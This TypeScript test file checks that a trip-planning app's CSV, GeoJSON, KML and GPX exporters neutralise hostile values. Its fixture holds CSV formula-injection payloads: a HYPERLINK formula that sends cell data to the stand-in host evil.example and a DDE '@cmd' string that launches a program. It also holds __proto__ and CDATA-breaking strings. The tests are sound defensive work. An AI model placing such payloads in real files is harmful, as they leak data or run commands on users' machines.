import { execFileSync } from 'node:child_process';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../../shared/codecs/export/write-csv.js';
import { writeGeoJson } from '../../../shared/codecs/export/write-geojson.js';
import { writeGpx } from '../../../shared/codecs/export/write-gpx.js';
import { writeKml } from '../../../shared/codecs/export/write-kml.js';
import type { ExportData } from '../../../shared/codecs/export/export-data.js';
import { itinera } from '../../helpers/cli.js';
import { tempDir } from '../../helpers/temp-dir.js';
import { EXPORT_DATA, PLACES } from './export-fixture.js';
import { ogrFeatures, saveFile } from './gdal.js';

// Exports never lie (#12 point 4): what a spreadsheet, GDAL or a GPS reads is what the project
// holds; a value is never turned into a formula, a markup break or a JavaScript built-in.

const dir = tempDir('itinera-honest-exports-');
const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
const [first, second] = PLACES as [(typeof PLACES)[0], (typeof PLACES)[0]];

const HOSTILE: ExportData = {
  ...EXPORT_DATA,
  places: [
    {
      ...first,
      name: '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
      description: 'Ende ]]> und <![CDATA[ noch ]]]]> mehr',
      // JSON.parse makes "__proto__" an own property, as a place read from the file has it.
      customFields: JSON.parse(
        '{"toString": "own value", "constructor": 7, "__proto__": "proto field", "hasOwnProperty": true}',
      ) as Record<string, string | number | boolean>,
    },
    { ...second, name: '+SUM(1,2)', description: '@cmd|" /C calc"!A0', customFields: {} },
  ],
  quarters: [],
  routes: [],
};

describe('exports that never lie', () => {
  it('CSV neutralises formula prefixes by default, and keeps them raw when asked', () => {
    const rows = Papa.parse<Record<string, string>>(text(writeCsv(HOSTILE).bytes), { header: true }).data;
    expect(rows[0]?.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Klick")`);
    expect(rows[1]?.name).toBe("'+SUM(1,2)");
    expect(rows[1]?.description).toBe(`'@cmd|" /C calc"!A0`);
    // Numbers stay numbers: a negative value is not a formula.
    const raw = Papa.parse<Record<string, string>>(text(writeCsv(HOSTILE, { csvFormulas: 'keep' }).bytes), {
      header: true,
    }).data;
    expect(raw[0]?.name).toBe('=HYPERLINK("http://evil.example/?"&A1,"Klick")');
  });

  it('writes custom fields named like JavaScript built-ins as the values the places own', () => {
    const geojson = JSON.parse(text(writeGeoJson(HOSTILE).bytes)) as {
      features: { properties: Record<string, unknown> }[];
    };
    const [one, two] = geojson.features;
    expect(one?.properties.toString).toBe('own value');
    expect(one?.properties.constructor).toBe(7);
    expect(one?.properties.hasOwnProperty).toBe(true);
    expect(Object.getOwnPropertyDescriptor(one?.properties, '__proto__')?.value).toBe('proto field');
    // The second place has none of these fields: null, never "function toString() { [native code] }".
    expect(two?.properties.toString).toBeNull();
    expect(two?.properties.constructor).toBeNull();
    const csv = text(writeCsv(HOSTILE).bytes);
    expect(csv).not.toMatch(/native code|\[object/);
  });

  it('KML and GPX with "]]>" and markup in every text read back in GDAL and GPSBabel as written', () => {
    const kml = saveFile(dir, 'hostile.kml', writeKml(HOSTILE).bytes);
    const gpx = saveFile(dir, 'hostile.gpx', writeGpx(HOSTILE).bytes);
    const kmlFeatures = ogrFeatures(kml);
    expect(JSON.stringify(kmlFeatures)).toContain('Ende ]]> und <![CDATA[ noch ]]]]> mehr');
    const converted = execFileSync('gpsbabel', ['-i', 'gpx', '-f', gpx, '-o', 'gpx', '-F', '-'], { encoding: 'utf8' });
    expect(converted).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Klick&quot;)');
    const kmlBack = execFileSync('gpsbabel', ['-i', 'kml', '-f', kml, '-o', 'gpx', '-F', '-'], { encoding: 'utf8' });
    expect(kmlBack).toContain('+SUM(1,2)');
  });

  it('itinera export takes --csv-formulas keep|neutralise, and names the option when its value is wrong', () => {
    const sample = path.join(dir, 'sample.gpkg');
    expect(itinera(['sample', sample]).status).toBe(0);
    const out = path.join(dir, 'places.csv');
    expect(itinera(['export', sample, out, '--format', 'csv', '--csv-formulas', 'keep']).status).toBe(0);
    const wrong = itinera(['export', sample, out, '--format', 'csv', '--csv-formulas', 'maybe']);
    expect(wrong.status).not.toBe(0);
    expect(wrong.stderr).toBe('itinera: CSV formulas: must be one of: neutralise, keep\n');
  });
});
